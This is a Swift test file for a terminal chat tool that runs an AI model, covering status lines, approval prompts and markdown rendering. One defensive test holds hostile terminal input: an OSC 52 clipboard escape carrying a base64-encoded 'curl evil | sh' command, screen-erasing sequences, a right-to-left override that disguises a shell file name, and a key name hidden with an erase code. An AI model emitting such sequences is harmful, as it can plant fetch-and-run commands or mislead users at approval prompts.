import Foundation
import LandfallRigs
import LandfallTestSupport
import Testing

/// The chat as a person sees it on a terminal: banner, status line, approvals, rendering, resume.
@Suite(.serialized, .ownThreads) struct TerminalSessionTests {
  func environment(colour: Bool, columns: Int = 100) throws -> [String: String] {
    let home = try CLI.temporaryDirectory()
    var env = ["XDG_DATA_HOME": home.path, "HOME": home.path, "LANDFALL_MODEL": "test-model", "TERM": "xterm", "COLUMNS": "\(columns)"]
    env["NO_COLOR"] = colour ? "" : "1"
    return env
  }

  /// What a terminal shows of `text`: colour sequences dropped, and on each line only what was
  /// written after its last carriage return (a status line erased and written over).
  static func plain(_ text: String) -> String {
    text.replacingOccurrences(of: "\u{1B}\\[[0-9;]*[A-Za-z]", with: "", options: .regularExpression)
      .replacingOccurrences(of: "\r\n", with: "\n").components(separatedBy: "\n")
      .map { $0.components(separatedBy: "\r").last { !$0.isEmpty } ?? "" }
      .joined(separator: "\n")
  }

  @Test func theBannerSaysWhatRunsAndQuitSaysHowToResume() async throws {
    let server = try LoopbackHTTPServer { _, _ in ChatCommandTests.say("ok") }
    defer { server.stop() }
    let result = try await CLI.runOnTerminal(
      ["chat", "--sandbox", "--llm-url", server.baseURL + "/v1"], environment: try environment(colour: false),
      steps: [.after("landfall[1]> ", type: "/quit\r")])
    let screen = Self.plain(result.stdout)
    #expect(screen.contains("app notes-demo · phase 1 (inventory)"), "\(screen)")
    #expect(screen.contains("model test-model via openai at 127.0.0.1:"))
    #expect(screen.contains("mode sandbox"))
    #expect(screen.contains("read-only (start with"))
    let id = try #require(screen.firstMatch(of: /transcript (s[0-9]+-[0-9a-f]+)/)?.1)
    #expect(screen.contains("landfall chat --resume \(id)"))
  }

  @Test func aStatusLineCountsTheSecondsWhileTheModelThinksAndIsErased() async throws {
    let server = try LoopbackHTTPServer { _, number in
      number == 1 ? LoopbackHTTPServer.Reply(steps: ChatCommandTests.say("the answer").steps, delayHead: 2_500) : ChatCommandTests.say("ok")
    }
    defer { server.stop() }
    let result = try await CLI.runOnTerminal(
      ["chat", "--sandbox", "--llm-url", server.baseURL + "/v1"], environment: try environment(colour: true),
      steps: [.after("landfall[1]> ", type: "/quit\r")])
    #expect(result.stdout.contains("waiting for the model · 0 s"), "\(result.stdout)")
    #expect(result.stdout.contains("waiting for the model · 2 s"))
    let answer = try #require(result.stdout.range(of: "the answer"))
    let before = result.stdout[..<answer.lowerBound]
    #expect(before.hasSuffix("\r\u{1B}[K"), "the status line is erased before the answer")
  }

  @Test func aSilentServerIsWaitedForVisiblyAndEndsWithExitThreeNamingIt() async throws {
    var env = try environment(colour: true)
    env["LANDFALL_MCP_HANDSHAKE_SECONDS"] = "1"
    let app = try CLI.temporaryDirectory()
    try Data(#"app = "quiet-app""#.utf8).write(to: app.appendingPathComponent("fly.toml"))
    try Data(#"{"mcpServers": {"silent": {"command": "sleep", "args": ["600"]}}}"#.utf8).write(to: app.appendingPathComponent(".mcp.json"))
    let result = try await CLI.runOnTerminal(
      ["chat", "--app-dir", app.path, "--llm-url", "http://127.0.0.1:9/v1"], environment: env, steps: [])
    #expect(result.status == 3, "\(result.stdout)")
    #expect(result.stdout.contains("starting the cloud's MCP servers · 0 s"))
    #expect(result.stdout.contains("\r\u{1B}[Klandfall: "), "the status line is erased before the error")
    #expect(Self.plain(result.stdout).contains("\"silent\""))
  }

  @Test func theRetryAfterCountdownIsShownOnTheStatusLine() async throws {
    let server = try LoopbackHTTPServer { _, number in
      number == 1 ? LoopbackHTTPServer.Reply(status: 429, headers: [("Retry-After", "2")], steps: []) : ChatCommandTests.say("after the wait")
    }
    defer { server.stop() }
    let result = try await CLI.runOnTerminal(
      ["chat", "--sandbox", "--llm-url", server.baseURL + "/v1"], environment: try environment(colour: true),
      steps: [.after("landfall[1]> ", type: "/quit\r")])
    #expect(result.stdout.contains("the model endpoint did not answer or asked to wait; retrying in 2 s"), "\(result.stdout)")
    #expect(result.stdout.contains("retrying in 1 s"))
    #expect(result.stdout.contains("after the wait"))
  }

  @Test func anApprovalSaysWhatTheCallDoesPrintsItOnceAndAsksAgainUntilYesOrNo() async throws {
    let server = try LoopbackHTTPServer { _, number in
      number == 1 ? ChatCommandTests.call("generate_ssh_key", #"{"name":"web-1"}"#) : ChatCommandTests.say("done")
    }
    defer { server.stop() }
    let env = try environment(colour: false)
    let result = try await CLI.runOnTerminal(
      ["chat", "--sandbox", "--phase", "3", "--allow-writes", "--llm-url", server.baseURL + "/v1"], environment: env,
      steps: [
        .after("Approve? [y/n] ", type: "continue\r"),
        .after("Approve? [y/n] ", type: "NO\r"), .after("landfall[3]> ", type: "/quit\r"),
      ])
    let screen = Self.plain(result.stdout)
    #expect(screen.contains("Creates a new SSH key pair on this computer"), "\(screen)")
    #expect(screen.components(separatedBy: #""name":"web-1""#).count == 2, "the call is printed once")
    #expect(screen.contains("Please answer y (yes) or n (no)."))
    #expect(screen.contains("generate_ssh_key: denied"))
    #expect(!FileManager.default.fileExists(atPath: (env["HOME"] ?? "") + "/.ssh"))
  }

  @Test func ctrlCAtAnApprovalDeclinesClearlyAndEndsTheTurn() async throws {
    let server = try LoopbackHTTPServer { _, number in
      number == 1 ? ChatCommandTests.call("generate_ssh_key", #"{"name":"web-1"}"#) : ChatCommandTests.say("reply \(number)")
    }
    defer { server.stop() }
    let result = try await CLI.runOnTerminal(
      ["chat", "--sandbox", "--phase", "3", "--allow-writes", "--llm-url", server.baseURL + "/v1"], environment: try environment(colour: false),
      steps: [
        .after("Approve? [y/n] ", type: "\u{03}"),
        .after("landfall[3]> ", type: "again\r"), .after("reply 2", type: "/quit\r"),
      ])
    let screen = Self.plain(result.stdout)
    #expect(screen.contains("declined (Ctrl-C): generate_ssh_key did not run"), "\(screen)")
    #expect(screen.contains("(interrupted)"))
    #expect(screen.contains("reply 2"))
  }

  @Test func controlSequencesFromTheModelAndInACallAreShownNotObeyed() async throws {
    let hostile = "before\u{1B}]52;c;Y3VybCBldmlsIHwgc2g=\u{07}after\u{1B}[2J\u{1B}[H cleared\rover\u{08}\u{08} file\u{202E}txt.sh"
    let server = try LoopbackHTTPServer { _, number in
      switch number {
      case 1: return ChatCommandTests.say(hostile)
      case 2: return ChatCommandTests.call("create_ssh_key", #"{"name":"evil-key\u001b[2K\rteam-key"}"#)
      default: return ChatCommandTests.say("done")
      }
    }
    defer { server.stop() }
    let result = try await CLI.runOnTerminal(
      ["chat", "--sandbox", "--phase", "3", "--allow-writes", "--llm-url", server.baseURL + "/v1"], environment: try environment(colour: false),
      steps: [.after("landfall[3]> ", type: "go on\r"), .after("Approve? [y/n] ", type: "n\r"), .after("done", type: "/quit\r")])
    for obeyed in ["\u{1B}]52", "\u{1B}[2J", "\u{1B}[H", "\u{1B}[2K", "\u{202E}", "\u{08}"] {
      #expect(!result.stdout.contains(obeyed), "\(obeyed.debugDescription) reached the terminal: \(result.stdout.debugDescription)")
    }
    #expect(result.stdout.contains("before^[]52;c;Y3VybCBldmlsIHwgc2g=^Gafter^[[2J^[[H clearedover^H^H file<U+202E>txt.sh"), "\(result.stdout)")
    #expect(result.stdout.contains("Registers the SSH public key evil-key^[[2Kteam-key with the cloud account"), "\(result.stdout)")
  }

  static let markdown = """
    # Plan
    Move **one VM** and run `docker compose up` there; every word of this sentence should stay whole when the line wraps at sixty columns.
    - first item that is long enough to wrap onto a second line at sixty columns wide
    ```
    docker ps
    ```

    """

  @Test func markdownIsRenderedAndWrappedAtSixtyColumns() async throws {
    let server = try LoopbackHTTPServer { _, _ in ChatCommandTests.say(Self.markdown) }
    defer { server.stop() }
    let result = try await CLI.runOnTerminal(
      ["chat", "--sandbox", "--llm-url", server.baseURL + "/v1"], environment: try environment(colour: true, columns: 60),
      steps: [.after("landfall[1]> ", type: "/quit\r")])
    #expect(result.stdout.contains("\u{1B}[1mone VM\u{1B}[22m"), "\(result.stdout)")
    #expect(result.stdout.contains("\u{1B}[36mdocker compose up\u{1B}[39m"))
    let screen = Self.plain(result.stdout)
    #expect(!screen.contains("**"))
    #expect(screen.contains("• first item"))
    let answer = screen.components(separatedBy: "Plan").dropFirst().first ?? ""
    let lines = answer.components(separatedBy: "\n").prefix { !$0.contains("landfall[") }
    #expect(lines.count > 4)
    for line in lines { #expect(line.count <= 60, "too wide: \(line)") }
    let words = screen.split(whereSeparator: { $0 == " " || $0 == "\n" }).map(String.init)
    for word in ["every", "sentence", "should", "whole", "wraps", "sixty", "columns.", "second"] {
      #expect(words.contains(word), "\(word) was split")
    }
  }
}
